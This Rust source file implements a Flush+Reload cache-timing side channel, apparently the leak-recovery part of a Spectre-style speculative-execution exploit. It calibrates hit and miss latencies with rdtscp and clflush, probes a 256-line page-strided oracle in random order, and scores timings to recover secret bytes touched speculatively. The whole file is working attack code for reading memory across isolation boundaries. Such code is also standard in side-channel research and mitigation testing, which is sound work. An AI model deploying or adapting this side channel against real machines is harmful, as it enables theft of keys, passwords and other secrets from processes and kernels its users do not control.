//! Flush+reload cache side channel.
//!
//! The oracle is an array of 256 page-sized lines, one per possible byte
//! value. Code running speculatively reads the line selected by the secret
//! byte; afterwards every line is timed and the one that comes back fast
//! reveals the byte. A single trial is noisy, so hits accumulate into scores
//! until one value clearly dominates.

use rand::seq::SliceRandom;

use crate::instr::{clflush, force_read, mfence, rdtscp};

pub const ORACLE_LINES: usize = 256;
// one page per value, so the adjacent-line prefetcher never pulls in a
// neighbour
pub const ORACLE_STRIDE: usize = 4096;

const CALIBRATION_ROUNDS: u64 = 1000;
// best score must exceed 2 * runner-up + CONFIDENCE_MARGIN
const CONFIDENCE_MARGIN: u64 = 40;

/// Outcome of one oracle query.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct LeakResult {
    pub confident: bool,
    pub byte: u8,
}

/// Borrowed view of the timing surface, used by code that has to touch an
/// oracle line without owning the oracle.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct OracleHandle {
    base: *const u8,
    stride: usize,
}

impl OracleHandle {
    /// # Safety
    ///
    /// `base` must stay valid for reads of `ORACLE_LINES * stride` bytes for
    /// as long as the handle is used.
    pub unsafe fn new(base: *const u8, stride: usize) -> Self
    {
        OracleHandle { base, stride }
    }

    /// Address of the line encoding `value`.
    pub fn line(&self, value: u8) -> *const u8
    {
        self.base.wrapping_add(value as usize * self.stride)
    }

    /// Pull the line encoding `value` into the cache.
    pub fn touch(&self, value: u8)
    {
        // valid per the contract of `new`
        unsafe { force_read(self.line(value)) }
    }
}

/// Cache-timing oracle as seen by the leak loop.
pub trait Oracle {
    /// Clear the timing surface before a new trial.
    fn reset(&mut self);
    /// Turn the evidence gathered so far into a scored guess.
    fn sample(&mut self) -> LeakResult;
    /// Surface the trap reads through.
    fn handle(&self) -> OracleHandle;
}

/// Per-value hit counters for one byte.
#[derive(Debug, Clone)]
pub struct Scores {
    hits: [u64; ORACLE_LINES],
}

impl Default for Scores {
    fn default() -> Self
    {
        Scores { hits: [0; ORACLE_LINES] }
    }
}

impl Scores {
    /// Count every value whose line loaded faster than `threshold` cycles.
    pub fn record(&mut self, latencies: &[u64; ORACLE_LINES], threshold: u64)
    {
        for (value, &latency) in (0..=255u8).zip(latencies.iter()) {
            if latency < threshold {
                self.add_hit(value);
            }
        }
    }

    pub fn add_hit(&mut self, value: u8)
    {
        self.hits[value as usize] += 1;
    }

    pub fn get(&self, value: u8) -> u64
    {
        self.hits[value as usize]
    }

    /// Best and second-best value, ties resolved towards the lower value.
    pub fn best_two(&self) -> (u8, u8)
    {
        let mut best = 0usize;
        let mut runner_up = 1usize;
        if self.hits[runner_up] > self.hits[best] {
            std::mem::swap(&mut best, &mut runner_up);
        }
        for i in 2..ORACLE_LINES {
            if self.hits[i] > self.hits[best] {
                runner_up = best;
                best = i;
            } else if self.hits[i] > self.hits[runner_up] {
                runner_up = i;
            }
        }
        (best as u8, runner_up as u8)
    }

    pub fn verdict(&self) -> LeakResult
    {
        let (best, runner_up) = self.best_two();
        let best_score = self.hits[best as usize];
        let runner_score = self.hits[runner_up as usize];
        LeakResult {
            confident: best_score > 2 * runner_score + CONFIDENCE_MARGIN,
            byte: best,
        }
    }
}

#[derive(Clone, Copy)]
#[repr(C, align(4096))]
struct BigByte([u8; ORACLE_STRIDE]);

/// Flush+reload oracle over a heap-allocated timing surface.
pub struct CacheSideChannel {
    lines: Box<[BigByte]>,
    scores: Scores,
    threshold: u64,
    probe_order: Vec<u8>,
}

impl CacheSideChannel {
    pub fn new() -> Self
    {
        // written once so none of the pages is a shared zero page
        let lines = vec![BigByte([1; ORACLE_STRIDE]); ORACLE_LINES].into_boxed_slice();
        let mut channel = CacheSideChannel {
            lines,
            scores: Scores::default(),
            threshold: 0,
            probe_order: (0..=255).collect(),
        };
        channel.threshold = channel.calibrate();
        tracing::debug!(threshold = channel.threshold, "calibrated hit threshold");
        channel
    }

    fn line(&self, value: u8) -> *const u8
    {
        self.lines[value as usize].0.as_ptr()
    }

    fn time_read(addr: *const u8) -> u64
    {
        mfence();
        let start = rdtscp();
        unsafe { force_read(addr) };
        rdtscp().saturating_sub(start)
    }

    // midpoint between average hit and average miss latency
    fn calibrate(&self) -> u64
    {
        let probe = self.line(0);
        let mut hit_total = 0u64;
        let mut miss_total = 0u64;
        for _ in 0..CALIBRATION_ROUNDS {
            unsafe { force_read(probe) };
            hit_total += Self::time_read(probe);
            clflush(probe);
            miss_total += Self::time_read(probe);
        }
        let hit = hit_total / CALIBRATION_ROUNDS;
        let miss = miss_total / CALIBRATION_ROUNDS;
        tracing::debug!(hit, miss, "oracle latencies");
        (hit + miss) / 2
    }

    fn measure(&mut self) -> [u64; ORACLE_LINES]
    {
        // random order defeats the stride prefetcher
        self.probe_order.shuffle(&mut rand::thread_rng());
        let mut latencies = [u64::MAX; ORACLE_LINES];
        for &value in &self.probe_order {
            latencies[value as usize] = Self::time_read(self.line(value));
        }
        latencies
    }
}

impl Default for CacheSideChannel {
    fn default() -> Self
    {
        Self::new()
    }
}

impl Oracle for CacheSideChannel {
    fn reset(&mut self)
    {
        for value in 0..=255u8 {
            clflush(self.line(value));
        }
        mfence();
    }

    fn sample(&mut self) -> LeakResult
    {
        let latencies = self.measure();
        self.scores.record(&latencies, self.threshold);
        self.scores.verdict()
    }

    fn handle(&self) -> OracleHandle
    {
        unsafe { OracleHandle::new(self.line(0), ORACLE_STRIDE) }
    }
}
